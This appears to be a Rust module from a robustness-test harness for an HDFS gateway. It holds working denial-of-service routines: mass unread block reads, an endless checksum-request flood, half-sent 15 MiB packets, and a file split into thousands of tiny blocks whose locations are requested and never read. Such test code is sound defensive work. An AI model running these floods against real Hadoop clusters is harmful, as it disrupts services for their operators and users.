//! Strangers at the port for Hadoop's clients who speak of blocks: reads and sums of them, packets that stop, answers that name very many.

use super::hdfs::{asked, call, context, say_and_hold};
use super::target::Target;
use base::error::{Error, ErrorKind, Result};
use base::net::Stream;
use bytes::Bytes;
use client::CreateOptions;
use gateway_hdfs::message::files::{AddBlock, BlockAnswer, CREATE, Complete, Create, CreateAnswer};
use gateway_hdfs::message::hdfs::{ExtendedBlock, Permission};
use gateway_hdfs::message::located::{GetBlockLocations, GetBlockLocationsAnswer};
use gateway_hdfs::message::rpc::ResponseHeader;
use gateway_hdfs::message::transfer::{
    BaseHeader, BlockChecksum, CHECKSUM_NULL, Checksum, OperationHeader, PacketHeader, ReadBlock, SETUP_CREATE,
    WriteBlock,
};
use prost::Message;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

/// Bytes of the file that is read and summed.
const LENGTH: usize = 64 << 20;

/// Bytes of a packet that stops, and of one that makes a file of many blocks.
const PACKET: usize = 15 << 20;

/// Connections that each do the same.
const CONNECTIONS: usize = 512;

/// An operation of the data transfer protocol.
fn operation(number: u8, request: &impl Message) -> Vec<u8> {
    [vec![0, 28, number], request.encode_length_delimited_to_vec()].concat()
}

/// The answer to a call, as this message.
async fn answer<A: Message + Default>(
    stream: &mut Box<dyn Stream>,
    at: i32,
    method: &str,
    request: &impl Message,
) -> Result<A> {
    let answer = asked(stream, at, method, &request.encode_to_vec()).await?;
    let mut rest = answer.as_slice();
    let read = |error| Error::new(ErrorKind::Protocol, format!("the answer to {method}: {error}"));
    let header = ResponseHeader::decode_length_delimited(&mut rest).map_err(read)?;
    if header.status != 0 {
        return Err(Error::new(ErrorKind::Refused, format!("{method}: {}", header.text.unwrap_or_default())));
    }
    A::decode_length_delimited(rest).map_err(read)
}

/// A connection of the user who runs the server.
async fn own(target: &Target) -> Result<Box<dyn Stream>> {
    let mut stream = target.connect(&target.hdfs).await?;
    stream.write_all(&context(&os::user::current().0)).await?;
    Ok(stream)
}

/// A file of one large block, and that block.
async fn large_block(target: &Target) -> Result<ExtendedBlock> {
    let client = target.client().await?;
    let mut file = client.create("/attacked", CreateOptions::default()).await?;
    file.write(Bytes::from(vec![3; LENGTH])).await?;
    file.close().await?;
    let ask = GetBlockLocations { path: "/attacked".to_string(), offset: 0, length: LENGTH as u64 };
    let found: GetBlockLocationsAnswer = answer(&mut own(target).await?, 1, "getBlockLocations", &ask).await?;
    let blocks = found.located.map(|located| located.blocks).unwrap_or_default();
    let block = blocks.into_iter().next().map(|located| located.block);
    block.ok_or_else(|| Error::new(ErrorKind::NotFound, "the file has no block"))
}

/// A file that is open for writing, in blocks of this size, and its first block.
async fn open_block(target: &Target, path: &str, block_size: u64) -> Result<(u64, ExtendedBlock)> {
    let mut stream = own(target).await?;
    let create = Create {
        path: path.to_string(),
        masked: Permission { bits: 0o644 },
        holder: "attacker".to_string(),
        flags: CREATE,
        parents: true,
        replication: 1,
        block_size,
        ..Create::default()
    };
    let created: CreateAnswer = answer(&mut stream, 1, "create", &create).await?;
    let inode = created.status.and_then(|status| status.inode).unwrap_or_default();
    let add = AddBlock { path: path.to_string(), holder: create.holder, previous: None, inode: Some(inode) };
    let added: BlockAnswer = answer(&mut stream, 2, "addBlock", &add).await?;
    Ok((inode, added.block.block))
}

fn header(block: &ExtendedBlock) -> BaseHeader {
    BaseHeader { block: block.clone(), token: None }
}

/// What a writer of a block says first.
fn write(block: &ExtendedBlock) -> Vec<u8> {
    let request = WriteBlock {
        header: OperationHeader { base: header(block), client: "attacker".to_string() },
        stage: SETUP_CREATE,
        pipeline_size: 1,
        checksum: Checksum { kind: CHECKSUM_NULL, bytes: 512 },
        ..WriteBlock::default()
    };
    operation(80, &request)
}

/// A packet of this block's first bytes, without checksums.
fn packet(length: usize) -> Vec<u8> {
    let mut packet = Vec::new();
    PacketHeader { length: length as u32, ..PacketHeader::default() }.encode(0, &mut packet);
    packet
}

/// A large block, read by many who take none of it.
pub async fn unread(target: &Target) -> Result<()> {
    let block = large_block(target).await?;
    let base = OperationHeader { base: header(&block), client: "attacker".to_string() };
    let ask = ReadBlock { header: base, offset: 0, length: LENGTH as u64, ..ReadBlock::default() };
    say_and_hold(target, CONNECTIONS, operation(81, &ask)).await
}

/// The checksum of a large block, asked for again and again by clients that do not wait for it.
pub async fn sums(target: &Target) -> Result<()> {
    let block = large_block(target).await?;
    let ask = operation(85, &BlockChecksum { header: header(&block), options: None });
    loop {
        if let Ok(mut stream) = target.connect(&target.hdfs).await {
            target.count("connections");
            // One that is ended is made again.
            let _ = stream.write_all(&ask).await;
        }
        tokio::time::sleep(std::time::Duration::from_millis(2)).await;
    }
}

/// Packets of 15 MiB of which nothing comes but the header.
pub async fn half_packets(target: &Target) -> Result<()> {
    let (_, block) = open_block(target, "/attacked", 128 << 20).await?;
    say_and_hold(target, CONNECTIONS, [write(&block), packet(PACKET)].concat()).await
}

/// The places of 15,360 blocks, asked for again and again and never read.
pub async fn blocks(target: &Target) -> Result<()> {
    let (inode, block) = open_block(target, "/attacked", 1024).await?;
    let mut stream = target.connect(&target.hdfs).await?;
    let mut last = Vec::new();
    PacketHeader { offset: PACKET as u64, number: 1, last: true, ..PacketHeader::default() }.encode(0, &mut last);
    stream.write_all(&[write(&block), packet(PACKET), vec![3; PACKET], last].concat()).await?;
    // The answer, and two acknowledgements; then it ends.
    stream.read_to_end(&mut Vec::new()).await?;
    let last = ExtendedBlock { length: Some(PACKET as u64), ..block };
    let complete = Complete {
        path: "/attacked".to_string(),
        holder: "attacker".to_string(),
        last: Some(last),
        inode: Some(inode),
    };
    asked(&mut own(target).await?, 3, "complete", &complete.encode_to_vec()).await?;
    let ask = GetBlockLocations { path: "/attacked".to_string(), offset: 0, length: 1 << 40 }.encode_to_vec();
    let calls: Vec<u8> = (1..257).flat_map(|at| call(at, "getBlockLocations", &ask)).collect();
    say_and_hold(target, 64, [context(&os::user::current().0), calls].concat()).await
}

/// What a writer begins with, for those that say it slowly.
pub fn greeting() -> Vec<u8> {
    write(&ExtendedBlock::default())
}
